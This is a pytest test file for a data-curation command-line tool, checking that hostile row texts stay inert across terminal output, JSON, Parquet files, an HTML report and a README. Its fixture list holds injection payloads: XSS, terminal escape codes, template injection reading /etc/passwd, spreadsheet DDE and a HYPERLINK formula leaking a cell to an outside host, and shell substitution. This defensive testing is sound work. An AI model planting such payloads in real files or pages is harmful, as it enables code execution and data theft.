"""Rows that would steer whoever shows or opens them, by every command and in every file of a version: inert."""

import json

import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from assay.cli import app
from assay.console import UNSAFE
from curate.record import SPLITS
from tests.curate.test_hostile import Page
from tests.project import Project

HOSTILE = [
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "\x1b[2J\x1b]0;title\x07\x9b31m of a terminal",
    "\u202eright to left",
    "[red]markup[/red] [link=http://example.org]of a console[/link]",
    "{{ 7 * 7 }} {% include '/etc/passwd' %}",
    "=HYPERLINK(\"http://example.org?leak=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "`$(touch x)` | ```",
]  # fmt: skip


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """A drop whose texts, labels, groups, columns and files' names are hostile."""
    record = {
        "turns": [{"role": "user", "content": "text"}],
        "target": {"colour": "colour", "count": "count"},
        "label": "text",
        "group": "text",
        "meta": {"said": "text"},
    }
    project = Project(tmp_path_factory.mktemp("project"), record=record, quality={}, balance={"cap": 1})
    rows = [{"text": text, "colour": "red", "count": n, text: text} for n, text in enumerate(HOSTILE)]
    rows += [{"text": text, "colour": text, "count": n} for n, text in enumerate(HOSTILE)]
    project.add("=1+1 [red]<u>.jsonl", [*rows, *rows[:4]])
    return project


@pytest.mark.parametrize("command", ["inspect", "preview", "curate", "check"])
def test_no_command_lets_a_row_steer_the_terminal(project: Project, command: str) -> None:
    store = ["--store", str(project.folder / "shown")]
    if command == "check":
        CliRunner().invoke(app, ["curate", str(project.recipe_path), *store, "--workers", "1"])
    arguments = {
        "inspect": [str(project.drop)],
        "preview": [str(project.recipe_path), *store, "--rows", "40"],
        "curate": [str(project.recipe_path), *store, "--workers", "1"],
        "check": ["demo", *store],
    }
    done = CliRunner().invoke(app, [command, *arguments[command]], env={"COLUMNS": "150"})
    assert done.exit_code == 0, done.output
    assert not UNSAFE.search(done.output)
    assert "root:" not in done.output
    if command in ("inspect", "preview"):
        assert "[red]" in done.output
        assert "{{ 7 * 7 }}" in done.output


@pytest.mark.parametrize("command", ["inspect", "preview"])
def test_json_holds_rows_as_they_are_and_steers_no_terminal(project: Project, command: str) -> None:
    given = [str(project.drop)] if command == "inspect" else [str(project.recipe_path), "--rows", "40"]
    done = CliRunner().invoke(app, [command, *given, "--json"])
    assert done.exit_code == 0, done.output
    assert not UNSAFE.search(done.stdout)
    assert done.stdout.isascii()
    document = json.loads(done.stdout)
    if command == "preview":
        texts = {row["record"]["turns"][0]["content"] for row in document["rows"] if row["rejected"] is None}
        assert "<script>alert(1)</script><img src=x onerror=alert(2)>" in texts


def test_files_hold_rows_as_values_that_nothing_evaluates(project: Project) -> None:
    version = project.curate()
    folder = version.folder
    assert {path.suffix for path in folder.rglob("*") if path.is_file() and path.name != "SHA256SUMS"} <= {
        *(
            ".parquet",
            ".jsonl",
            ".json",
            ".yaml",
            ".md",
            ".html",
            ".css",
            ".js",
            ".woff2",
            ".woff",
            ".svg",
            ".png",
            ".ico",
        )
    }, "nothing that a spreadsheet would take for its own"
    written = []
    for split in SPLITS:
        rows = pq.read_table(folder / f"{split}.parquet").to_pylist()
        lines = (folder / f"{split}.jsonl").read_bytes().split(b"\n")[:-1]
        assert [json.loads(line)["turns"] for line in lines] == [row["turns"] for row in rows]
        written += rows
    written += pq.read_table(folder / "quarantine.parquet").to_pylist()
    texts = [row["turns"][0]["content"] for row in written]
    unchanged = {text for text in HOSTILE if not UNSAFE.search(text) and text == text.strip()}
    assert len(unchanged) == len(HOSTILE) - 3
    assert unchanged <= set(texts)
    page = Page((folder / "report.html").read_text(encoding="utf-8"))
    assert page.tags.keys().isdisjoint({"img", "iframe", "object", "embed", "base", "u"})
    assert (page.tags["script"], page.tags["form"]) == (1, 1), "ours"
    assert "=HYPERLINK(" in page.words
    card = (folder / "README.md").read_text(encoding="utf-8")
    assert not [text for text in HOSTILE if text in card]
